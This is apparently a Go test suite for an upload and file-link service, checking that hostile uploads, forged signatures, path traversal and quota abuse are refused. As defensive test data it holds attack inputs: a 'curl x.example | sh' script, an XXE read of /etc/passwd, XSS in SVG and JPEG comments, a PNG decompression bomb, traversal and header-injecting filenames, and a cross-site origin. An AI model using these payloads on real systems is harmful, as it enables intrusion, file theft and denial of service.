package apitest_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pursuing-equity/commons/internal/apitest"
	"github.com/pursuing-equity/commons/internal/file"
	"github.com/pursuing-equity/commons/internal/gid"
)

// zipped is an archive of one file.
func zipped(name, content string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	f, _ := z.Create(name)
	_, _ = io.WriteString(f, content)
	_ = z.Close()
	return b.Bytes()
}

// chunk is one of a PNG's.
func chunk(kind string, data []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(append(b, kind...), data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// bomb is a PNG that says that it is wide and high, and whose few bytes inflate to many.
func bomb(side uint32) []byte {
	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, side), side)
	var pixels bytes.Buffer
	z := zlib.NewWriter(&pixels)
	zeros := make([]byte, 1<<20)
	for range 16 {
		_, _ = z.Write(zeros)
	}
	_ = z.Close()
	return append(append(append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(header, 8, 2, 0, 0, 0))...), chunk("IDAT", pixels.Bytes())...), chunk("IEND", nil)...)
}

// commented is a JPEG with a comment.
func commented(text string) []byte {
	whole := encodedJPEG(drawn(8, 8))
	segment := append([]byte{0xff, 0xfe, byte((len(text) + 2) >> 8), byte(len(text) + 2)}, text...)
	return append(append(append([]byte{}, whole[:2]...), segment...), whole[2:]...)
}

// Whatever is wrong with an upload, it is refused with its code, and nothing of it stays.
func TestHostileUploads(t *testing.T) {
	apitest.Each(t, func(w *apitest.World) {
		ada := w.Member("ada")
		page := "<!DOCTYPE html><html><script>alert(1)</script></html>"
		picture := encodedPNG(drawn(8, 8))
		for name, c := range map[string]struct {
			name, purpose string
			body          []byte
			status        int
			code          string
		}{
			"a page":                                 {"a.html", "RESOURCE", []byte(page), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a page that is called a picture":        {"a.png", "RESOURCE", []byte(page), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a vector picture":                       {"a.svg", "RESOURCE", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a vector picture as an avatar":          {"a.png", "AVATAR", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a script":                               {"a.txt", "RESOURCE", []byte("#!/bin/sh\ncurl x.example | sh\n"), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a vector picture that hides its name":   {"a.txt", "RESOURCE", []byte("<svg onload=alert(1)>"), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"XML":                                    {"a.xml", "RESOURCE", []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a program":                              {"a.pdf", "RESOURCE", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 300)...), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a program of Windows":                   {"a.txt", "RESOURCE", append([]byte("MZ\x90\x00"), make([]byte, 300)...), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"an archive":                             {"a.zip", "RESOURCE", zipped("a", strings.Repeat("0", 1<<20)), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"a picture that is a page":               {"a.gif", "RESOURCE", append([]byte("GIF89a/*\x00\x00\x00\x00*/=1;/*"), "*/<html><script>alert(1)</script>"...), 422, "CONTENT_REFUSED"},
			"a photograph with a script in it":       {"a.jpg", "RESOURCE", commented("<sCRIPT src=//x.example></script>"), 422, "CONTENT_REFUSED"},
			"an avatar with a script in it":          {"a.jpg", "AVATAR", commented("<script>alert(1)</script>"), 422, "CONTENT_REFUSED"},
			"a picture that is a PDF":                {"a.jpg", "RESOURCE", commented(pdf), 422, "CONTENT_REFUSED"},
			"a picture that is an archive":           {"a.png", "RESOURCE", append(append([]byte{}, picture...), zipped("x.jar", "y")...), 422, "CONTENT_REFUSED"},
			"a document that is an archive":          {"a.pdf", "RESOURCE", append([]byte(pdf), zipped("x.jar", "y")...), 422, "CONTENT_REFUSED"},
			"a text that is an archive":              {"a.txt", "RESOURCE", append([]byte(strings.Repeat("text ", 2000)), zipped("x.jar", "y")...), 422, "CONTENT_REFUSED"},
			"a picture of 900 megapixels":            {"a.png", "AVATAR", bomb(30_000), 422, "CONTENT_REFUSED"},
			"a picture without an end":               {"a.png", "AVATAR", picture[:40], 422, "CONTENT_REFUSED"},
			"a picture of nothing":                   {"a.png", "AVATAR", bomb(0), 422, "CONTENT_REFUSED"},
			"a text as an avatar":                    {"a.txt", "AVATAR", []byte("x"), 415, "UNSUPPORTED_MEDIA_TYPE"},
			"nothing":                                {"a.txt", "RESOURCE", nil, 400, "INVALID_INPUT"},
			"another purpose":                        {"a.txt", "EXPORT", []byte("x"), 400, "INVALID_INPUT"},
			"a name that leads elsewhere":            {"../../etc/cron.d/x.txt", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name that leads elsewhere, encoded":   {"..%2f..%2fx.txt/../y", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name that leads elsewhere, Windows":   {`..\..\x.txt`, "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name of dots":                         {"..", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"no name":                                {" ", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name that injects a header":           {"a.txt\r\nSet-Cookie: a=b", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name with a zero":                     {"a.txt\x00.pdf", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name that is read from right to left": {"cod\u202etxt.exe", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
			"a name that is no text":                 {"a\xff.txt", "RESOURCE", []byte("x"), 400, "INVALID_INPUT"},
		} {
			w.T.Run(name, func(t *testing.T) {
				r := upload(t, w, ada.Token(), called(c.name, c.purpose), bytes.NewReader(c.body), "Content-Type", "application/pdf")
				if r.status != c.status || r.code() != c.code {
					t.Errorf("%d %s, want %d %s", r.status, r.body, c.status, c.code)
				}
				if places, rows := stays(t, w); places != 0 || rows != 0 {
					t.Errorf("%d places and %d rows stay", places, rows)
				}
			})
		}
		w.T.Run("forms and compressed bodies", func(t *testing.T) {
			if r := upload(t, w, ada.Token(), called("a.txt", "RESOURCE"), strings.NewReader("--x\r\n\r\n--x--"), "Content-Type", "multipart/form-data; boundary=x"); r.status != 415 {
				t.Errorf("%d %s", r.status, r.body)
			}
			if r := upload(t, w, ada.Token(), called("a.txt", "RESOURCE"), strings.NewReader("x"), "Content-Encoding", "gzip"); r.status != 415 {
				t.Errorf("%d %s", r.status, r.body)
			}
			if r := upload(t, w, ada.Token(), "name=a.txt&name=b.txt&purpose=RESOURCE", strings.NewReader("x")); r.status != 400 {
				t.Errorf("%d %s", r.status, r.body)
			}
			if r := upload(t, w, ada.Token(), "name=%zz&purpose=RESOURCE", strings.NewReader("x")); r.status != 400 {
				t.Errorf("%d %s", r.status, r.body)
			}
		})
		w.T.Run("a page of another site cannot upload with the reader's cookies", func(t *testing.T) {
			if r := upload(t, w, ada.Token(), called("a.txt", "RESOURCE"), strings.NewReader("x"), "Origin", "https://evil.example", "Sec-Fetch-Site", "cross-site"); r.status != 403 {
				t.Errorf("%d %s", r.status, r.body)
			}
		})
		if places, rows := stays(w.T, w); places != 0 || rows != 0 {
			w.T.Errorf("%d places and %d rows stay", places, rows)
		}
		ada = w.Member("bea")
		w.T.Run("a name cannot disguise content, and is shown as it is", func(t *testing.T) {
			for sent, want := range map[string]string{
				"page.html":                       "page.html.txt",
				"run.exe":                         "run.exe.txt",
				"Straße 学校 🌍.md":                  "Straße 学校 🌍.md",
				`a"; filename="b.html.txt`:        `a"; filename="b.html.txt`,
				strings.Repeat("ä", 250) + ".csv": strings.Repeat("ä", 196) + ".csv",
			} {
				r := upload(t, w, ada.Token(), called(sent, "RESOURCE"), strings.NewReader("plain text"))
				if r.field("name") != want {
					t.Errorf("%q became %s", sent, r.body)
				}
				link := ada.Must(seeFile, vars{"id": r.id(t)}).String("node.url")
				got := send(t, http.MethodGet, w.URL+link, nil)
				if got.status != 200 || !strings.HasPrefix(got.header.Get("Content-Disposition"), `attachment; filename="`) || strings.Count(got.header.Get("Content-Disposition"), `"`) != 2 {
					t.Errorf("%d %v", got.status, got.header)
				}
			}
		})
		w.T.Run("a PDF with a script is kept, and no browser runs it here", func(t *testing.T) {
			id := upload(t, w, ada.Token(), called("a.pdf", "RESOURCE"), strings.NewReader(pdf+"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")).id(t)
			got := send(t, http.MethodGet, w.URL+ada.Must(seeFile, vars{"id": id}).String("node.url"), nil)
			if !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment") || !strings.HasPrefix(got.header.Get("Content-Security-Policy"), "sandbox;") || got.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%v", got.header)
			}
		})
		w.T.Run("an office document that would unpack to much is kept packed", func(t *testing.T) {
			var b bytes.Buffer
			z := zip.NewWriter(&b)
			for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml"} {
				f, _ := z.Create(name)
				_, _ = io.WriteString(f, "<a/>")
				for range 64 {
					if name == "word/document.xml" {
						_, _ = f.Write(make([]byte, 1<<20))
					}
				}
			}
			_ = z.Close()
			r := upload(t, w, ada.Token(), called("a.docx", "RESOURCE"), bytes.NewReader(b.Bytes()))
			if r.id(t); !strings.Contains(r.field("mediaType"), "wordprocessingml") {
				t.Errorf("%s", r.body)
			}
		})
	})
}

func TestForgedLinks(t *testing.T) {
	apitest.Each(t, func(w *apitest.World) {
		ada := w.Member("ada")
		id := upload(w.T, w, ada.Token(), called("a b.txt", "RESOURCE"), strings.NewReader(strings.Repeat("0123456789", 100))).id(w.T)
		other := upload(w.T, w, ada.Token(), called("a b.txt", "RESOURCE"), strings.NewReader("another")).id(w.T)
		link := ada.Must(seeFile, vars{"id": id}).String("node.url")
		u, err := url.Parse(link)
		if err != nil {
			w.T.Fatal(err)
		}
		get := func(t *testing.T, path string, query url.Values) reply {
			t.Helper()
			return send(t, http.MethodGet, w.URL+path+"?"+query.Encode(), nil)
		}
		with := func(name, value string) url.Values {
			q := u.Query()
			q.Set(name, value)
			return q
		}
		missing := get(w.T, "/files/"+w.NewID(gid.File).String()+"/a.txt", u.Query())
		if missing.status != http.StatusNotFound || missing.code() != "NOT_FOUND" {
			w.T.Fatalf("%d %s", missing.status, missing.body)
		}
		want := func(t *testing.T, what string, r reply) {
			t.Helper()
			if r.status != http.StatusNotFound || !bytes.Equal(r.body, missing.body) {
				t.Errorf("%s: %d %s", what, r.status, r.body)
			}
		}
		w.T.Run("every bit of a signature counts", func(t *testing.T) {
			raw, err := base64.RawURLEncoding.DecodeString(u.Query().Get("signature"))
			if err != nil || len(raw) != 32 {
				t.Fatal(err)
			}
			for i := 0; i < len(raw)*8; i += 5 {
				raw[i/8] ^= 1 << (i % 8)
				want(t, fmt.Sprintf("bit %d", i), get(t, u.Path, with("signature", base64.RawURLEncoding.EncodeToString(raw))))
				raw[i/8] ^= 1 << (i % 8)
			}
			text := u.Query().Get("signature")
			for _, end := range "ABCDEFGHIJKLMNOPQRSTUVWXYZ" { // the last character has bits that decoders overlook
				if other := text[:len(text)-1] + string(end); other != text {
					want(t, other, get(t, u.Path, with("signature", other)))
				}
			}
			want(t, "none", get(t, u.Path, url.Values{"expires": {u.Query().Get("expires")}}))
			want(t, "padded", get(t, u.Path, with("signature", text+"=")))
		})
		w.T.Run("a signature is for one file, one name and one time", func(t *testing.T) {
			want(t, "another file", get(t, strings.Replace(u.Path, id, other, 1), u.Query()))
			want(t, "another name", get(t, "/files/"+id+"/b.html", u.Query()))
			want(t, "later", get(t, u.Path, with("expires", "99999999999")))
			want(t, "a sign", get(t, u.Path, with("expires", "+"+u.Query().Get("expires"))))
			want(t, "no number", get(t, u.Path, with("expires", "x")))
			want(t, "another kind of id", get(t, "/files/"+ada.ID.String()+"/a.txt", u.Query()))
		})
		w.T.Run("ways out of the directory lead nowhere", func(t *testing.T) {
			for _, path := range []string{
				"/files/../../etc/passwd", "/files/..%2f..%2f..%2fetc/passwd", "/files/%2e%2e/%2e%2e/etc/passwd", "/files/..%252f..%252fetc/passwd",
				"/files/" + id + "/..%2f..%2fcommons.db", "/files/" + id + "/%2e%2e%2f%2e%2e%2fcommons.db", "/files/" + id + "%00/a.txt", `/files/..\..\x/a.txt`,
			} {
				if r := send(t, http.MethodGet, w.URL+path+"?"+u.RawQuery, nil); r.status == http.StatusOK || bytes.Contains(r.body, []byte("root:")) {
					t.Errorf("%s: %d", path, r.status)
				}
			}
		})
		w.T.Run("hundreds of ranges cost what one answer costs", func(t *testing.T) {
			ranges := "bytes=0-1" + strings.Repeat(",0-", 400)
			if r := send(t, http.MethodGet, w.URL+link, nil, "Range", ranges); r.status != http.StatusOK || len(r.body) != 1000 {
				t.Errorf("%d with %d bytes", r.status, len(r.body))
			}
			if r := send(t, http.MethodGet, w.URL+link, nil, "Range", "bytes=2000-"); r.status != http.StatusRequestedRangeNotSatisfiable {
				t.Errorf("%d", r.status)
			}
		})
		w.T.Run("a deleted file is gone at once", func(t *testing.T) {
			ada.Must(deleteFile, input(vars{"fileId": id}))
			want(t, "deleted", send(t, http.MethodGet, w.URL+link, nil))
			if code := ada.Do(deleteFile, input(vars{"fileId": id})).Code(); code != "NOT_FOUND" {
				t.Errorf("again: %q", code)
			}
		})
	})
}

func TestLinksExpire(t *testing.T) {
	apitest.Each(t, func(w *apitest.World) {
		ada := w.Member("ada")
		id := upload(w.T, w, ada.Token(), called("a.txt", "RESOURCE"), strings.NewReader("x")).id(w.T)
		f, err := w.App.Files.File(ada.Context(), ada.Viewer, gidOf(w.T, id))
		if err != nil {
			w.T.Fatal(err)
		}
		at := func(d time.Duration) string { // a link of another time, of the same installation
			other := &file.Service{Store: w.App.Store, Now: func() time.Time { return w.App.Config.Now().Add(d) }}
			link, err := other.URL(w.System(), f)
			if err != nil {
				w.T.Fatal(err)
			}
			return link
		}
		for d, want := range map[time.Duration]int{0: 200, -59 * time.Minute: 200, -2 * time.Hour: 404, -24 * time.Hour: 404} {
			if r := send(w.T, http.MethodGet, w.URL+at(d), nil); r.status != want {
				w.T.Errorf("made %v ago: %d, want %d", -d, r.status, want)
			}
		}
	})
}

func gidOf(t *testing.T, text string) gid.ID {
	t.Helper()
	id, err := gid.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return id
}

func TestQuota(t *testing.T) {
	apitest.Each(t, func(w *apitest.World) {
		ada := w.Member("ada")
		send := func() reply {
			return upload(w.T, w, ada.Token(), called("a.txt", "RESOURCE"), io.MultiReader(strings.NewReader(strings.Repeat("x", 1000)))) // of unknown length
		}
		var ids []string
		w.T.Run("of twenty uploads at once, as many are kept as there is room for", func(t *testing.T) {
			replies := make([]reply, 20)
			var all sync.WaitGroup
			for i := range replies {
				all.Go(func() { replies[i] = send() })
			}
			all.Wait()
			for _, r := range replies {
				switch {
				case r.status == http.StatusCreated:
					ids = append(ids, r.field("id"))
				case r.code() != "LIMIT_REACHED":
					t.Errorf("%d %s", r.status, r.body)
				}
			}
			if places, rows := stays(t, w); len(ids) != 7 || places != 7 || rows != 7 {
				t.Errorf("%d kept, %d places, %d rows", len(ids), places, rows)
			}
		})
		w.T.Run("what is deleted makes room", func(t *testing.T) {
			ada.Must(deleteFile, input(vars{"fileId": ids[0]}))
			if r := send(); r.status != http.StatusCreated {
				t.Errorf("%d %s", r.status, r.body)
			}
			if r := send(); r.code() != "LIMIT_REACHED" {
				t.Errorf("%d %s", r.status, r.body)
			}
		})
		w.T.Run("what says that there is no room for it is not read", func(t *testing.T) {
			if r := upload(t, w, ada.Token(), called("a.txt", "RESOURCE"), strings.NewReader(strings.Repeat("x", 1000))); r.code() != "LIMIT_REACHED" {
				t.Errorf("%d %s", r.status, r.body)
			}
		})
	}, apitest.Files(file.Limits{Quota: 7500, AtOnce: 20}, "", ""))
}
